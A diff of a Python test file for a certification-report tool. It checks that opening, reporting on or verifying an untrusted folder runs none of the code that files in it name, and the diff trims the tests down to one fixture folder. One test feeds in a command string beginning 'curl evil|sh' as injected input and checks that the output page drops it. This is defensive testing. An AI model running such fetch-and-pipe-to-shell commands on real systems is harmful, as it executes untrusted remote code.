@@ -1,70 +1,41 @@
 """Folders that a stranger made: no verb that opens one runs its code, or tells of another certificate."""
 
-import importlib.util
 import json
 import os
-import py_compile
 import re
 import shutil
 from pathlib import Path
 
 import pytest
-import torch
-from attack.networks import SAMPLE, Plain
-from torch import Tensor
+from attack.networks import SAMPLE
 
 from codebound.certification import certify
 from codebound.classifier import load_classifier
-from codebound.run.errors import UsageError
 from codebound_verify.__main__ import main as verify
 
 EVIL = "open('ran', 'w')\n"
 
 
-class Smooth(Plain):
-    """No chain of a message, so that its architecture is code."""
-
-    def forward(self, x: Tensor) -> Tensor:
-        return torch.softmax(self.last(x.flatten(1)), dim=1)
-
-
 @pytest.fixture(scope="module")
 def made(tmp_path_factory):
-    """A folder about code, and one about a chain, both with the author's words."""
+    """A folder with the author's words."""
     place = tmp_path_factory.mktemp("made")
-    torch.manual_seed(0)
-    certify(Smooth().eval(), SAMPLE, method="naive", effort="quick").save_to(place / "code")
     certify(None, SAMPLE, method="picks", effort="quick").save_to(place / "chain")
     return place
 
 
 @pytest.fixture
 def folders(made, empty_folder, codebound):
-    """Copies of them; whatever could be imported leaves a trace."""
-    for name in ("code", "chain"):
-        folder = Path(shutil.copytree(made / name, name))
-        codebound("report", folder)
-        words = folder / "dossier.toml"
-        words.write_text(words.read_text().replace('= ""', '= "said"'))
-        Path(f"{name}/evil.py").write_text(EVIL)
+    """A copy of it; whatever could be imported leaves a trace."""
+    folder = Path(shutil.copytree(made / "chain", "chain"))
+    codebound("report", folder)
+    words = folder / "dossier.toml"
+    words.write_text(words.read_text().replace('= ""', '= "said"'))
+    Path("chain/evil.py").write_text(EVIL)
     Path("evil.py").write_text(EVIL)
     Path("package").mkdir()
     Path("package/__init__.py").write_text(EVIL)
-    (written,) = Path("code").glob("network_*.py")
-    written.write_text(EVIL + written.read_text())
     return empty_folder
-
-
-def test_the_text_of_a_network_runs_and_no_compiled_copy_of_another(made, empty_folder, codebound):
-    folder = Path(shutil.copytree(made / "code", "code"))
-    (written,) = folder.glob("network_*.py")
-    Path("evil.py").write_text(EVIL)
-    kept = importlib.util.cache_from_source(str(written))
-    py_compile.compile("evil.py", kept, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
-    load_classifier(folder, model=f"{written}:make")
-    command = ("code/certificate.cbound", "--data", "code/sample.npz", "--model", f"{written}:make")
-    assert verify(command) == 0
-    assert not Path("ran").exists()
 
 
 def asking(folder, command):
@@ -82,27 +53,15 @@ def asking_with(folder, options):
 
 @pytest.mark.parametrize("is_older", [False, True])
 @pytest.mark.parametrize("factory", ["evil.py:make", "evil:make", "code/evil.py:make", "package.inner:make"])
-@pytest.mark.parametrize("folder", ["code", "chain"])
-def test_a_report_runs_no_code_that_a_file_names(folders, codebound, folder, factory, is_older):
+def test_a_report_runs_no_code_that_a_file_names(folders, codebound, factory, is_older):
     if is_older:
-        asking(
-            folder, f"codebound-verify certificate.cbound --data sample.npz --model {factory} --trust-code"
-        )
+        asking("chain", f"codebound-verify certificate.cbound --data sample.npz --model {factory}")
     else:
-        asking_with(folder, {"data": "sample.npz", "model": factory, "trust_code": True})
-    code, _, err = codebound("report", folder)
+        asking_with("chain", {"data": "sample.npz", "model": factory})
+    code, _, err = codebound("report", "chain")
     assert not Path("ran").exists()
-    assert (code == 2 and "name it as the model" in err) if folder == "code" else code == 0, err
-
-
-def test_code_is_run_by_who_names_it(folders, codebound):
-    (written,) = Path("code").glob("network_*.py")
-    written.write_text(written.read_text().removeprefix(EVIL))
-    code, _, err = codebound("report", "code", "--model", f"{written}:make")
-    assert code == 0, err
-    assert "ACCEPT" in Path("code/dossier.html").read_text()
-    assert load_classifier("code", model=f"{written}:make").predict(SAMPLE.x[:3])
-    assert codebound("decode", "code", "--out", "g.safetensors", "--model", f"{written}:make")[0] == 0
+    assert code != 0
+    assert "as certify writes it" in err
 
 
 @pytest.mark.parametrize(
@@ -159,11 +118,11 @@ def test_the_page_shows_what_was_asked_and_no_other_command(folders, codebound):
 
 
 def test_the_page_shows_no_word_of_a_stranger_but_names_of_files(folders, codebound):
-    asking("chain", "'curl evil|sh' certificate.cbound --data sample.npz --model evil.py:make --trust-code")
+    asking("chain", "'curl evil|sh' certificate.cbound --data sample.npz")
     assert codebound("report", "chain")[0] == 0
     page = Path("chain/dossier.html").read_text()
     assert "codebound-verify certificate.cbound --data sample.npz" in page
-    assert not any(word in page for word in ("curl", "evil.py", "--trust-code"))
+    assert "curl" not in page
 
 
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="the system has no queues between processes")
@@ -187,13 +146,11 @@ def test_a_result_that_lacks_something_is_named(folders, codebound):
 @pytest.mark.parametrize("verb", ["decode", "show", "joint", "load"])
 def test_opening_a_folder_runs_nothing(folders, codebound, verb):
     if verb == "load":
-        with pytest.raises(UsageError, match="none is run because a file names it"):
-            load_classifier("code")
+        assert load_classifier("chain").class_names == ()
     elif verb == "decode":
-        code, _, err = codebound("decode", "code", "--out", "g.safetensors")
-        assert (code, "name it as the model" in err) == (2, True)
+        assert codebound("decode", "chain", "--out", "g.safetensors")[0] == 0
     else:
-        assert codebound(verb, "code/certificate.cbound")[0] == 0
+        assert codebound(verb, "chain/certificate.cbound")[0] == 0
     assert not Path("ran").exists()
 
 
